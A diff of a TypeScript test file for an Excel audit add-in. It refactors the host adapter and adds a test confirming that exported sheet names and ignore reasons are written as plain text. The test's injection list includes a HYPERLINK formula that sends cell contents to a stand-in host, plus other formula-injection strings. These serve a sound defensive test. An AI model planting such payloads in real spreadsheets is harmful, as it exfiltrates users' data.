@@ -1,11 +1,11 @@
 // The pane's buttons and the ribbon commands end to end in Node: the real Office adapter
 // (src/host/office) on the in-memory Excel, the real audit and the real template plan.
 import { FakeWorkbook, runFake } from "../support/fake";
-import { applyActions, readSnapshot } from "../../src/host/office";
+import { OFFICE_ADAPTER } from "../../src/taskpane/services/host";
 import { createExcelHost } from "../../src/taskpane/services/excelHost";
 import { createStore } from "../../src/taskpane/state/store";
 import { exportReport, ignoreFinding, runAudit, toggleHighlight } from "../../src/taskpane/services/paneActions";
-import { freeSheetName, previewInstall, workbookOverview } from "../../src/taskpane/services/domain";
+import { previewInstall, workbookOverview } from "../../src/taskpane/services/domain";
 import type { HostService } from "../../src/taskpane/services/types";
 
 let wb: FakeWorkbook;
@@ -14,12 +14,11 @@ let host: HostService;
 function useWorkbook(w: FakeWorkbook): void {
   wb = w;
   (globalThis as unknown as { Excel: unknown }).Excel = { run: <T>(b: (c: Excel.RequestContext) => Promise<T>) => runFake(wb, b) };
-  host = createExcelHost({ readSnapshot, applyActions });
+  host = createExcelHost(OFFICE_ADAPTER);
 }
 
 async function installSample(): Promise<void> {
-  const preview = previewInstall(await host.readSnapshot(), { templates: [], year: 2024, satker: "", sample: true });
-  await host.applyActions(preview.actions);
+  await host.installTemplates({ templates: [], year: 2024, satker: "", sample: true });
 }
 
 /** Every cell's value, formula and fill, to prove an operation changed nothing. */
@@ -37,7 +36,7 @@ describe("Templat", () => {
     const before = dump(wb);
     const again = previewInstall(await host.readSnapshot(), { templates: ["capaian"], year: 2024, satker: "X", sample: false });
     expect(again.sheets).toEqual([{ name: "Capaian Kinerja (2)", original: "Capaian Kinerja" }]);
-    await host.applyActions(again.actions);
+    expect(await host.installTemplates({ templates: ["capaian"], year: 2024, satker: "X", sample: false })).toBe(1);
     const after = JSON.parse(dump(wb)) as Array<{ name: string }>;
     expect(after.map((s) => s.name)).toContain("Capaian Kinerja (2)");
     // The sheets that were there are exactly as before.
@@ -80,7 +79,7 @@ describe("Audit buttons", () => {
     const view = await runAudit(host, store);
     const target = view!.findings[0];
     await ignoreFinding(host, store, target, "sudah dikoreksi di LKjIP revisi");
-    expect(store.get().ignored[target.key]).toBe("sudah dikoreksi di LKjIP revisi");
+    expect(store.get().audit!.findings.find((f) => f.key === target.key)?.ignoredReason).toBe("sudah dikoreksi di LKjIP revisi");
     const again = await runAudit(host, createStore());
     expect(again!.findings.find((f) => f.key === target.key)?.ignoredReason).toBe("sudah dikoreksi di LKjIP revisi");
   });
@@ -107,10 +106,39 @@ describe("Audit buttons", () => {
   });
 });
 
-describe("freeSheetName", () => {
-  it("compares names like Excel, ignoring case", () => {
-    expect(freeSheetName({ sheets: [] }, "Laporan Audit")).toBe("Laporan Audit");
-    const taken = { sheets: [{ name: "laporan audit" }, { name: "Laporan Audit (2)" }] } as unknown as Parameters<typeof freeSheetName>[0];
-    expect(freeSheetName(taken, "Laporan Audit")).toBe("Laporan Audit (3)");
+
+describe("Ekspor never lets workbook text become a formula (the pane's own path)", () => {
+  // Sheet names and ignore reasons are user text copied into the report sheet. Each would run
+  // as a formula if written as is: "+HYPERLINK(…)" opens a link, "@"/"-"/"=" start formulas.
+  const INJECTIONS = ['+HYPERLINK("http://x.invalid/?d="&A1;"Klik")', "=1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "'quoted"];
+  const SHEETS = ["+Data", "-Data", "@Data", "=Data", "Data 5", "Data 6", "Data 7"];
+
+  it("writes every sheet name and ignore reason as the exact text, only the links are formulas", async () => {
+    // Sheets whose names start like formulas (and three more, one per reason), each with a monthly total that is off by 3.
+    const book: Record<string, (string | number | null)[][]> = {};
+    // Different figures per sheet: the audit reports a contradiction copied across sheets once.
+    SHEETS.forEach((name, i) => (book[name] = [["Bulan", "Selesai"], ["Januari", 3 + i], ["Februari", 4], ["Maret", 5], ["Total", 15 + 2 * i]]));
+    useWorkbook(FakeWorkbook.from(book));
+    const store = createStore();
+    const view = await runAudit(host, store);
+    const bySheet = SHEETS.map((name) => view!.findings.find((f) => f.sheet === name && f.severity === "error"));
+    expect(bySheet.every((f) => f !== undefined)).toBe(true);
+    for (let i = 0; i < bySheet.length; i++) await ignoreFinding(host, store, bySheet[i]!, INJECTIONS[i]);
+
+    const sheet = await exportReport(host, store);
+    expect(sheet).toBe("Laporan Audit");
+    const report = wb.mustSheet(sheet!);
+    const findings = store.get().audit!.findings;
+    for (let r = 0; r < findings.length; r++) {
+      const f = findings[r];
+      expect(wb.value(sheet!, `B${r + 2}`)).toBe(f.sheet);
+      expect(wb.value(sheet!, `I${r + 2}`)).toBe(f.ignoredReason ?? null);
+    }
+    const reasons = findings.map((f) => f.ignoredReason).filter((x) => x !== undefined);
+    expect(reasons.sort()).toEqual([...INJECTIONS].sort());
+    // The only formulas on the sheet are column C's HYPERLINKs to the findings' cells.
+    const formulaCols = [...report.formulas.keys()].map((k) => k % 16384);
+    expect(new Set(formulaCols)).toEqual(new Set([2]));
+    expect([...report.formulas.values()].every((f) => f.startsWith("=HYPERLINK(\"#"))).toBe(true);
   });
 });
